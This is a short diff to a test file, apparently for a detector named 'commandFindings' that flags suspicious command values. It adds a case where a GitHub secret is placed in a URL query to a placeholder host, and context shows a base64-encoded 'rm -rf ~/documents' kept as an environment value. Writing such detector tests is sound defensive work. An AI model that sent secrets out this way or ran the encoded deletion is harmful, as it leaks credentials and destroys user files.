@@ -135,6 +135,11 @@ describe('commandFindings', () => {
       finding: 'encoded args.1: evil',
     },
     {
+      what: 'a secret that it would take along',
+      part: { url: 'https://e.example/?k=${secret:github}' },
+      finding: 'reads url: ${secret:github}',
+    },
+    {
       what: 'an encoded value',
       part: { command: 'x', env: { A: base64('rm -rf ~/documents') } },
       finding: 'encoded env.A: rm -rf ~/documents',
